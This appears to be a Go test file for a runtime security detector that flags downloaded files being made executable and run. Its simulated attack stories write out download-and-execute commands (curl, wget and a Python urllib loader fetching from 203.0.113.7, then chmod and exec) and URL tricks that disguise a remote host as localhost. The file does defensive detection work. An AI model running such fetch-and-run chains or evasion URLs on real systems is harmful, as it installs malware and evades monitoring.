package dropper_test

import (
	"testing"
	"time"

	"github.com/bollwerk/bollwerk"
	"github.com/bollwerk/bollwerk/detect"
	"github.com/bollwerk/bollwerk/detect/detecttest"
	"github.com/bollwerk/bollwerk/detect/dropper"
)

func stories() map[string]*detecttest.Story {
	m := map[string]*detecttest.Story{}
	begin := func() (*detecttest.Story, *bollwerk.Process) {
		s := detecttest.New(detecttest.Pod("shop", "web", "php", "php:8.3-apache"))
		return s, s.Was(s.Was(nil, "/usr/sbin/apache2"), "/usr/bin/dash=sh -c x")
	}
	s, sh := begin()
	c := s.Exec(sh, "/usr/bin/curl -so /tmp/.k http://203.0.113.7/k")
	s.Connect(c, "203.0.113.7:80")
	s.Write(c, "/tmp/.k", 501)
	s.Exec(sh, "/usr/bin/chmod +x /tmp/.k")
	s.Chmod(sh, "/tmp/.k", 0o755, 501)
	s.Exec(sh, "/tmp/.k -B", detecttest.From(bollwerk.OriginCreated), detecttest.Inode(501))
	m["attack-curl-chmod-exec"] = s

	// Moved to another name and to a place that looks better.
	s, sh = begin()
	c = s.Exec(sh, "/usr/bin/wget -q http://203.0.113.7/kworker")
	s.Connect(c, "203.0.113.7:80")
	s.Write(c, "/var/www/html/kworker", 502)
	s.Chmod(sh, "/var/www/html/kworker", 0o777, 502)
	s.Rename(sh, "/var/www/html/kworker", "/usr/local/sbin/kworkerd")
	s.Wait(8 * time.Minute)
	s.Exec(sh, "/usr/local/sbin/kworkerd", detecttest.From(bollwerk.OriginCreated))
	m["attack-renamed"] = s

	// No file events: the command line says it.
	s, sh = begin()
	s.Exec(sh, "/usr/bin/curl -fsSL -o /dev/shm/a http://203.0.113.7/a")
	s.Exec(sh, "/dev/shm/a", detecttest.From(bollwerk.OriginCreated))
	m["attack-command-line-only"] = s

	// What tracing tells of /tmp: nothing until the file can be executed.
	s, sh = begin()
	w2 := s.Exec(sh, "/usr/bin/wget -q http://203.0.113.7/bins/mips", func(p *bollwerk.Process) { p.Cwd = "/tmp" })
	s.Connect(w2, "203.0.113.7:80")
	s.Chmod(s.Exec(sh, "/usr/bin/chmod 777 mips"), "/tmp/mips", 0o777, 506)
	s.Exec(sh, "/tmp/mips", detecttest.From(bollwerk.OriginCreated))
	m["attack-wget-into-tmp"] = s

	s, sh = begin()
	py := s.Exec(sh, "/usr/bin/python3.11=python3 -c 'import x'")
	s.Connect(py, "203.0.113.7:80")
	s.Chmod(py, "/tmp/.y", 0o700, 507)
	s.Exec(py, "/tmp/.y", detecttest.From(bollwerk.OriginCreated))
	m["attack-python-into-tmp"] = s

	s, sh = begin()
	cu := s.Exec(sh, "/usr/bin/curl -s http://203.0.113.7/p")
	s.Connect(cu, "203.0.113.7:80")
	s.Exec(sh, "/usr/bin/chmod 755 /var/tmp/p2")
	s.Exec(sh, "/var/tmp/p2", detecttest.From(bollwerk.OriginCreated))
	m["attack-redirected-unseen"] = s

	s, sh = begin()
	f := s.Fork(sh)
	s.Write(f, "/tmp/run.sh", 503)
	s.Become(f, "/usr/bin/curl -s http://203.0.113.7/run.sh")
	s.Exec(sh, "/usr/bin/bash /tmp/run.sh")
	m["attack-redirected-script"] = s

	// An upload to a server that is run by it.
	s = detecttest.New(detecttest.Container("api", "example/api:3"))
	n := s.Was(nil, "/usr/local/bin/node /app/server.js")
	s.Accept(n, "10.1.2.3:8080", "203.0.113.8:50000")
	s.Write(n, "/app/uploads/a.bin", 504)
	s.Chmod(n, "/app/uploads/a.bin", 0o755, 504)
	s.Exec(n, "/app/uploads/a.bin", detecttest.From(bollwerk.OriginCreated), detecttest.Inode(504))
	m["attack-upload"] = s

	// A loader in Python that fetches the second stage itself.
	s, sh = begin()
	p := s.Exec(sh, "/usr/bin/python3.11=python3 -c 'import urllib.request as u;u.urlretrieve(\"http://203.0.113.7/x\",\"/var/tmp/.x\")'")
	s.Connect(p, "203.0.113.7:80")
	s.Write(p, "/var/tmp/.x", 505)
	s.Chmod(p, "/var/tmp/.x", 0o700, 505)
	s.Exec(p, "/var/tmp/.x", detecttest.From(bollwerk.OriginCreated))
	m["attack-python-loader"] = s

	// Normal work: packages, builds, CI, a person, servers that write data.
	s = detecttest.New(detecttest.Container("ci", "node:22"))
	w := s.Was(nil, "/home/runner/runners/2.321.0/bin/Runner.Worker spawnclient 112 115")
	sh = s.Exec(w, "/usr/bin/bash -e /home/runner/work/_temp/a.sh")
	c = s.Exec(sh, "/usr/bin/curl -Lo ./kubectl https://dl.k8s.io/release/v1.31.0/bin/linux/amd64/kubectl")
	c.Cwd = "/home/runner/work"
	s.Connect(c, "dl.k8s.io=34.107.204.206:443")
	s.Write(c, "/home/runner/work/kubectl", 510)
	s.Chmod(sh, "/home/runner/work/kubectl", 0o755, 510)
	s.Exec(sh, "/home/runner/work/kubectl version", detecttest.From(bollwerk.OriginCreated), detecttest.Inode(510))
	npm := s.Exec(sh, "/usr/local/bin/node /usr/local/bin/npm ci", detecttest.Script("/usr/local/bin/npm"))
	s.Connect(npm, "npm.packages.example=104.16.1.35:443")
	s.Write(npm, "/home/runner/work/node_modules/@esbuild/linux-x64/bin/esbuild", 511)
	s.Chmod(npm, "/home/runner/work/node_modules/@esbuild/linux-x64/bin/esbuild", 0o755, 511)
	in := s.Exec(npm, "/usr/bin/dash=sh -c 'node install.js'")
	s.Exec(in, "/home/runner/work/node_modules/@esbuild/linux-x64/bin/esbuild --version", detecttest.From(bollwerk.OriginCreated), detecttest.Inode(511))
	m["benign-ci"] = s

	s = detecttest.New(detecttest.Host(""))
	apt := s.Exec(s.Was(nil, "/usr/bin/bash"), "/usr/bin/apt-get upgrade -y")
	h := s.Exec(apt, "/usr/lib/apt/methods/http")
	s.Connect(h, "deb.mirror.example=151.101.2.132:80")
	s.Write(h, "/var/cache/apt/archives/partial/curl_8.14.1-2_amd64.deb", 520)
	d := s.Exec(apt, "/usr/bin/dpkg --unpack /var/cache/apt/archives/curl_8.14.1-2_amd64.deb")
	s.Write(d, "/usr/bin/curl.dpkg-new", 521)
	s.Rename(d, "/usr/bin/curl.dpkg-new", "/usr/bin/curl")
	s.Exec(apt, "/usr/bin/curl --version", detecttest.Inode(521))
	pg := s.Was(nil, "/usr/lib/postgresql/16/bin/postgres -D /var/lib/postgresql")
	s.Listen(pg, "0.0.0.0:5432")
	s.Write(pg, "/var/lib/postgresql/base/1/1", 522)
	s.Exec(pg, "/usr/bin/dash=sh -c 'cp pg_wal/000001 /backup/000001'")
	m["benign-apt-postgres"] = s

	s = detecttest.New(detecttest.Host(""))
	s.LoginUID, s.UID, s.TTY = 1000, 1000, "pts/1"
	b := s.Was(nil, "/usr/bin/bash=-bash")
	c = s.Exec(b, "/usr/bin/curl -Lo /usr/local/bin/kind https://kind.example/kind")
	s.Connect(c, "kind.example=198.51.100.9:443")
	s.Write(c, "/usr/local/bin/kind", 530)
	s.Chmod(b, "/usr/local/bin/kind", 0o755, 530)
	s.Exec(b, "/usr/local/bin/kind version", detecttest.Inode(530))
	// An application that unpacks its own helper.
	j := s.Was(nil, "/usr/bin/java -jar /opt/app/app.jar")
	s.Connect(j, "10.2.0.4:5432")
	s.Write(j, "/opt/app/native/helper", 531)
	s.Chmod(j, "/opt/app/native/helper", 0o755, 531)
	s.TTY, s.LoginUID = "", 4294967295
	s.Exec(j, "/opt/app/native/helper", detecttest.Inode(531))
	m["benign-person-and-app"] = s

	// Somebody starts a server of his own and asks whether it answers.
	s = detecttest.New(detecttest.Host(""))
	b = s.Was(nil, "/usr/bin/bash=bash /srv/check.sh")
	in = s.Exec(b, "/usr/bin/node s.js 8080", func(p *bollwerk.Process) { p.Cwd = "/tmp/work" })
	s.Exec(b, "/usr/bin/curl -fsS http://127.0.0.1:8080/api/v1/things?page=1")
	s.Exec(in, "/usr/bin/node /tmp/work/s.js 8080", func(p *bollwerk.Process) { p.Cwd = "/tmp/work" })
	s.Exec(b, "/usr/bin/curl -fsS http://localhost:8080/ http://[::1]:8080/")
	s.Exec(b, "/usr/bin/python3.11=/usr/bin/python3 -m http.server 8081", func(p *bollwerk.Process) { p.Cwd = "/tmp/work" })
	s.Exec(b, "/usr/bin/node /tmp/work/s.js 8082", func(p *bollwerk.Process) { p.Cwd = "/tmp/work" })
	m["benign-own-server"] = s

	// What looks local and is not.
	for name, asks := range map[string]string{"user": "http://localhost@203.0.113.7/k", "name": "http://localhost.evil.example/k", "told": "--connect-to ::203.0.113.7:80 http://localhost/k",
		"both": "http://127.0.0.1/ http://203.0.113.7/k"} {
		s, sh = begin()
		s.Exec(sh, "/usr/bin/curl -fsSL "+asks)
		s.Exec(sh, "/tmp/k", detecttest.From(bollwerk.OriginCreated))
		m["attack-not-local-"+name] = s
	}
	return m
}

func TestStories(t *testing.T) { detecttest.Files(t, stories()) }

func TestContract(t *testing.T) {
	high := detecttest.Want{Severity: bollwerk.SeverityHigh}
	detecttest.Test(t, detecttest.Contract{
		New: func() detect.Detector { return dropper.New(dropper.Config{}) },
		Want: map[string]detecttest.Want{
			"attack-curl-chmod-exec": {Severity: bollwerk.SeverityHigh, Message: "made executable"},
			"attack-renamed":         {Severity: bollwerk.SeverityHigh, Message: "/usr/local/sbin/kworkerd"},
			"attack-upload":          high, "attack-redirected-script": high, "attack-python-loader": high,
		},
		Bytes: 3 << 20,
	})
}

func TestTuning(t *testing.T) {
	events := detecttest.Read(t, "testdata/attack-upload.jsonl")
	if got := detecttest.Run(t, dropper.New(dropper.Config{Allowed: []string{"/app/uploads/"}}), events); len(got) != 0 {
		t.Errorf("told of an allowed folder: %s", got[0].Message)
	}
	late := detecttest.Read(t, "testdata/attack-renamed.jsonl")
	if got := detecttest.Run(t, dropper.New(dropper.Config{Within: time.Minute}), late); len(got) != 0 {
		t.Errorf("told of a file that came eight minutes ago, with a minute configured: %s", got[0].Message)
	}
}
